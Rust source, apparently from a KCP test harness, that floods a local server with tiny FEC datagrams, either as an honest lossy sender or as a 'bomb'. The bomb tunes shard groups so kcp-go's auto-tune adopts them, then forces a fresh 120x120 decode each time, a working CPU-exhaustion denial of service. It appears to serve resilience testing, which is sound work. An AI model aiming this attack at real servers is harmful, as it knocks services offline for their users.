//! The FEC attack: tiny FEC datagrams from a bomb or an honest sender, at a fixed rate.

use std::time::{Duration, Instant};

use kcp_fec::{DATA_HEADER_LEN, TYPE_DATA, TYPE_PARITY};

use crate::datagram::{CMD_WASK, Framing, Seg, WND, fec_header, segment};

/// The bomb's shard counts. kcp-go's auto-tune takes counts up to 255 each, but finds a
/// period only when a whole run of one type lies in order in its 258-sample ring, which
/// 128+128 never does; 120+120 it follows.
const BOMB_DATA: u32 = 120;
const BOMB_PARITY: u32 = 120;

/// The frame of a tiny FEC datagram: kcp-go's listener drops decrypted payloads shorter
/// than a KCP header (24 bytes), so 8 bytes of FEC header and 16 of frame (too short for
/// KCP, which refuses it: only the decoder works on it).
const TINY: usize = 16;

/// Tiny FEC datagrams (18-byte shards: the size field and [`TINY`] bytes) at `rate`
/// per second until `until`, from one address whose session a window probe opened first.
/// Honest (`bomb` false): a 10+3 sender losing about 1 in 13. The bomb: eight full groups
/// of 120+120 (for auto-tune to follow), then, of each group, 60 data shards chosen at
/// random and 60 parity shards, so every group has 60 data shards to rebuild by a
/// 120 x 120 solve, a different one each time (no decoder can reuse an inverted matrix). Blocking;
/// returns the bytes sent.
pub(crate) fn fec(server: u16, until: Instant, rate: u32, bomb: bool) -> u64 {
    let sock = std::net::UdpSocket::bind("127.0.0.4:0").unwrap();
    sock.connect(("127.0.0.1", server)).unwrap();
    let mut framing = Framing::new();
    let mut rng = kcp_testkit::sim::Rng::new(u64::from(server));
    let mut kcp = Vec::new();
    let probe = Seg {
        conv: rng.next_u32(),
        cmd: CMD_WASK,
        wnd: WND,
        ts: 0,
        sn: 0,
        una: 0,
    };
    segment(&mut kcp, probe, &[]);
    let mut sent = sock.send(&framing.seal(&kcp)).unwrap_or(0) as u64;
    // The seqids this sender uses, in order, with their types.
    let group = BOMB_DATA + BOMB_PARITY;
    let mut seqid = group; // after the probe's
    let mut queue: Vec<(u32, u16)> = Vec::new();
    let mut next = move |rng: &mut kcp_testkit::sim::Rng, queue: &mut Vec<(u32, u16)>| {
        if let Some(p) = queue.pop() {
            return p;
        }
        if !bomb {
            loop {
                let s = seqid;
                seqid += 1;
                if rng.below(13) != 0 {
                    return (s, if s % 13 < 10 { TYPE_DATA } else { TYPE_PARITY });
                }
            }
        }
        let base = seqid;
        seqid += group;
        let kind = |i: u32| {
            if i < BOMB_DATA {
                TYPE_DATA
            } else {
                TYPE_PARITY
            }
        };
        let mut keep: Vec<u32> = if base < 9 * group {
            (0..group).collect()
        } else {
            let mut data: Vec<u32> = (0..BOMB_DATA).collect();
            for i in (1..data.len()).rev() {
                data.swap(i, rng.below(i as u64 + 1) as usize);
            }
            data.truncate(BOMB_DATA as usize / 2);
            data.sort_unstable();
            data.extend(BOMB_DATA..BOMB_DATA + BOMB_PARITY / 2);
            data
        };
        keep.reverse();
        queue.extend(keep.into_iter().map(|i| (base + i, kind(i))));
        queue.pop().unwrap()
    };
    let start = Instant::now();
    let mut count = 0u64;
    let mut payload = Vec::new();
    while Instant::now() < until {
        // Batches every 5 ms, on schedule.
        let due = start.elapsed().as_secs_f64() * f64::from(rate);
        while (count as f64) < due {
            let (s, kind) = next(&mut rng, &mut queue);
            payload.clear();
            fec_header(&mut payload, s, kind, TINY);
            payload.resize(DATA_HEADER_LEN + TINY, 0);
            if let Ok(n) = sock.send(&framing.seal_payload(&payload)) {
                sent += n as u64;
            }
            count += 1;
        }
        std::thread::sleep(Duration::from_millis(5));
    }
    sent
}
